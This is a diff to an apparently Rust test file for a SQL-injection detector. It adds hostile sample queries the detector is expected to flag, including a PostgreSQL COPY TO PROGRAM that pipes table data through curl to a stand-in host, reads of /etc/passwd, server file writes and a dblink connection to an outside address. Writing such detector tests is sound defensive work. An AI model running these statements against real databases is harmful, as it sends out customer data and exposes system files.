@@ -327,6 +327,47 @@ fn injection_markers_in_any_case() {
         marker("SELECT load_file('/etc/passwd'), sleep(1)").as_deref(),
         Some("time-based probe")
     );
+    // Words a comment or a line break parts, which a search of the text misses.
+    for (sql, m) in [
+        (
+            "SELECT a FROM t WHERE id = 5 UNION/**/SELECT email FROM customers",
+            "UNION SELECT",
+        ),
+        (
+            "SELECT a FROM t WHERE id = 5\nUNION ALL\n(SELECT email FROM customers)",
+            "UNION SELECT",
+        ),
+        (
+            "SELECT a FROM t WHERE id = 5 AND pg_sleep /**/ (5) IS NULL",
+            "time-based probe",
+        ),
+        // PostgreSQL's server-side file and program access.
+        (
+            "COPY customers TO PROGRAM 'curl -T - https://x.example'",
+            "program execution",
+        ),
+        (
+            "COPY (SELECT email FROM customers) TO '/tmp/c.csv'",
+            "server file write",
+        ),
+        ("COPY t FROM '/etc/passwd'", "server file read"),
+        ("SELECT pg_read_file('/etc/passwd')", "server file read"),
+        ("SELECT lo_export(16402, '/tmp/x')", "server file write"),
+        (
+            "SELECT * FROM dblink('host=203.0.113.9', 'SELECT 1') AS t(a int)",
+            "outbound connection",
+        ),
+    ] {
+        assert_eq!(marker(sql).as_deref(), Some(m), "{sql}");
+    }
+    // A client's COPY, and a column or table of such a name, are none.
+    for sql in [
+        "COPY customers TO STDOUT WITH CSV",
+        "COPY (SELECT 1) TO STDOUT",
+        "SELECT sleep FROM dblink_settings",
+    ] {
+        assert_eq!(marker(sql), None, "{sql}");
+    }
 }
 
 #[test]
